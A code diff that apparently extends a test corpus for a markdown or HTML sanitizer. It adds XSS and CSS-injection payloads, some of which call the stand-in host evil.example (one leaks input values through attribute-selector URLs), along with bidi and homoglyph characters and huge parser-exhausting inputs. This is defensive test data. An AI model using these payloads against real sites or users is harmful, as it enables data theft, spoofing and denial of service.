@@ -147,6 +147,59 @@ FENCES: Final = [
     '<a@b.c"onclick=alert(1)>',
 ]
 
+STYLES: Final = [
+    "</style><script>alert(1)</script>",
+    "@import '//evil.example/x.css';",
+    "*{background:url(//evil.example/pixel.gif)}",
+    "input[value^=a]{background:url(//evil.example/a)}",
+    "@font-face{font-family:x;src:url(//evil.example/x.woff2)}",
+    "x{width:expression(alert(1));behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x.xml#x)}",
+    '" style="position:fixed;inset:0" x="',
+    "' onmouseover='alert(1)' x='",
+    "` onfocus=alert(1) autofocus x=`",
+    "</script><script>alert(1)</script>",
+    "*/alert(1)/*",
+    "';alert(1);//",
+    "${alert(1)}",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+]
+"""What would run inside a style sheet, an attribute or a script."""
+
+CHARACTERS: Final = [
+    "\u202eevil\u202c \u2066live\u2069 \u061c\u200f",
+    "in\u200bvis\u200cib\u200dle\u2060 \ufeff\u00ad\u180e",
+    "Z" + "\u0301\u0337\u0489" * 60 + "algo",
+    "line\u2028separator\u2029paragraph\x85next\x0bdown\x0cfeed",
+    "\U000e0073\U000e0065\U000e0063 tags, \ufdd0 \ufffe \U0010ffff nobody's",
+    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 \U0001f1e6\U0001f1e7",
+    "\x1b[31mred\x1b[0m\x07 \x9b31m \x7f",
+    "ﷺ﷽𒐫" * 5,
+    "Ѕubmіt ⁄ ѕсrірt",
+    "ا" * 40 + "\u0651" * 20,
+]
+"""Characters that turn round, hide, pile up or draw over what stands beside them."""
+
+
+def heavy() -> dict[str, str]:
+    """Texts that are costly to parse or to draw, by name."""
+    return {
+        "brackets": "[" * 50_000,
+        "closed brackets": "[" * 25_000 + "](" * 12_500,
+        "a line of a megabyte": "x" * 1_000_000,
+        "a megabyte of words": "word " * 200_000,
+        "quotes": ">" * 50_000,
+        "lists": "- " * 25_000,
+        "stars": "**a " * 12_500,
+        "ticks": "`" * 49_999 + " `",
+        "a table": "|a" * 1_000 + "\n" + "|-" * 1_000 + "\n|b" * 9,
+        "formulas": "$x$ " * 12_500,
+        "nested formula": "$" + "{" * 20_000 + "}" * 20_000 + "$",
+        "lines": "a\n" * 10_000,
+        "marks": "a" + "\u0301" * 50_000,
+        "elements": "<b>" * 16_000,
+        "entities": "&lt;" * 12_500,
+    }
+
 
 def payloads() -> list[str]:
     """More than 300 texts, each once."""
@@ -157,5 +210,5 @@ def payloads() -> list[str]:
     ]
     texts += [link.replace("{}", scheme) for scheme, link in product(SCHEMES, LINKS)]
     texts += [marks.replace("{}", formula) for formula, marks in product(FORMULAS, DELIMITERS)]
-    texts += FENCES + [element for element in ELEMENTS if "{%" in element]
+    texts += FENCES + STYLES + CHARACTERS + [element for element in ELEMENTS if "{%" in element]
     return list(dict.fromkeys(texts))
